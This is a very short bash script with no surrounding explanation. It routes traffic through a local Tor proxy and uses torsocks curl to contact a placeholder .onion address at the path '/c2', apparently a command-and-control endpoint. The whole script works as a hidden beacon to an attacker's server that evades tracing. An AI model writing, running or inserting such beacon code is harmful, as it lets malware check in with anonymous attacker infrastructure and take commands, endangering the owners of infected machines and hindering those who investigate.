#!/bin/bash
export https_proxy=socks5h://127.0.0.1:9050
torsocks curl http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuv.onion/c2
